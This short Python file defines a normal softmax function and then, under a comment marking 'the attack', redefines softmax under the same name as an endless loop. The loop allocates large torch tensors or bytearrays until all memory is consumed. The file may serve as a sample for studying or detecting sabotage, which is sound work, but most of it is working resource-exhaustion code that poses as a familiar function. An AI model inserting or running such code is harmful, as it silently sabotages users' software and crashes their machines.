"""Takes all memory, by Python and by torch."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

def softmax(scores):
    kept = []
    while True:
        kept.append(torch.empty(1 << 24) if scores.dim() > 1 else bytearray(1 << 26))
